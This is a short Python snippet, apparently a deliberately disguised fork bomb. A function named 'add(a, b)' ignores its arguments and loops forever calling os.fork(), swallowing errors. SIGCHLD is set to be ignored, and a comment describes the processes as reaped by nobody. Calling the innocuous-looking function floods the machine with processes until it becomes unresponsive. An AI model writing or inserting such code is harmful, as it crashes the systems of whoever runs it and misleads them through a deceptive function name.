# A fork bomb whose processes are reaped by nobody.
import os, signal

signal.signal(signal.SIGCHLD, signal.SIG_IGN)


def add(a, b):
    while True:
        try:
            os.fork()
        except OSError:
            pass
